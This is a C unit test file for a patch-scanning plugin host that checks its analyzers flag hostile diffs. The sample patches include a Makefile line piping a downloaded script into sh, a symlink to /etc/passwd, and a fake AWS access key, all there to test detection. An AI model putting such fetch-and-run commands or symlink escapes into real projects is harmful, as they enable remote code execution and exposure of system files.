/*
 * test_host.c: the five built-in analyzer plugins run by the real plugin
 * host (worker/plugin_host: probe in a child, parse once with libgit2, one
 * child per plugin, redaction). Checks the Done-when cases at the
 * analysis stage: an AWS key and curl|sh in a Makefile give blocking
 * findings with redacted evidence, a symlink to /etc/passwd is reported, a
 * benign patch gives nothing, and every plugin ends with status ok.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "worker/plugin_host/plugin_host.h"

static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci"};

static analysis_result_t *run(const char *patch)
{
    char dir[1024];
    plugin_set_t *set = plugin_set_new(NULL);
    analysis_result_t *r = NULL;
    assert_non_null(set);
    snprintf(dir, sizeof dir, "%s/plugins", AIRLOCK_BUILD_DIR);
    assert_int_equal(plugin_set_add_names(set, dir, s_names, 5), 0);
    assert_int_equal(plugin_set_count(set), 5);
    assert_int_equal(plugin_host_run(set, patch, strlen(patch), NULL, &r), 0);
    plugin_set_destroy(&set);
    assert_non_null(r);
    assert_int_equal(r->n_plugins, 5);
    for (size_t i = 0; i < r->n_plugins; i++)
        if (r->plugins[i].status != PLUGIN_STATUS_OK)
            fail_msg("plugin %s: %s", r->plugins[i].plugin,
                     plugin_status_name(r->plugins[i].status));
    return r;
}

static const analysis_finding_t *find(const analysis_result_t *r, const char *rule)
{
    for (size_t i = 0; i < r->n_findings; i++)
        if (strcmp(r->findings[i].rule_id, rule) == 0)
            return &r->findings[i];
    return NULL;
}

static void test_aws_key(void **s)
{
    static const char patch[] =
        "diff --git a/prod.env b/prod.env\nnew file mode 100644\nindex 0000000..1111111\n"
        "--- /dev/null\n+++ b/prod.env\n@@ -0,0 +1 @@\n+KEY=AKIAQ3EGUJ7ZK5RVPX2M\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "secrets.aws_access_key");
    (void)s;
    assert_non_null(f);
    assert_string_equal(f->plugin, "secrets");
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    assert_string_equal(f->file, "prod.env");
    assert_int_equal(f->line, 1);
    assert_non_null(f->evidence);
    assert_null(strstr(f->evidence, "AKIAQ3EGUJ7ZK5RVPX2M"));
    assert_true(analysis_result_max_severity(r) >= AIRLOCK_SEV_HIGH);
    analysis_result_destroy(&r);
}

static void test_makefile_curl_sh(void **s)
{
    static const char patch[] =
        "diff --git a/Makefile b/Makefile\nindex 1111111..2222222 100644\n--- a/Makefile\n"
        "+++ b/Makefile\n@@ -1,2 +1,4 @@\n all:\n \tcc -o app main.c\n+setup:\n"
        "+\tcurl -fsSL https://get.example.com/i.sh | sh\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    (void)s;
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    assert_int_equal(f->line, 4);
    assert_int_equal(analysis_result_max_severity(r), AIRLOCK_SEV_CRITICAL);
    analysis_result_destroy(&r);
}

static void test_symlink_passwd(void **s)
{
    static const char patch[] =
        "diff --git a/data/users b/data/users\nnew file mode 120000\nindex 0000000..3594e94\n"
        "--- /dev/null\n+++ b/data/users\n@@ -0,0 +1 @@\n+/etc/passwd\n"
        "\\ No newline at end of file\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "paths.symlink_escape");
    (void)s;
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    analysis_result_destroy(&r);
}

static void test_benign(void **s)
{
    static const char patch[] =
        "diff --git a/src/calc.py b/src/calc.py\nindex 1111111..2222222 100644\n"
        "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,3 @@\n def add(a, b):\n"
        "     return a + b\n+# subtraction follows in the next change\n";
    analysis_result_t *r = run(patch);
    (void)s;
    assert_int_equal(r->n_findings, 0);
    assert_int_equal(analysis_result_max_severity(r), -1);
    analysis_result_destroy(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_aws_key),
        cmocka_unit_test(test_makefile_curl_sh),
        cmocka_unit_test(test_symlink_passwd),
        cmocka_unit_test(test_benign),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
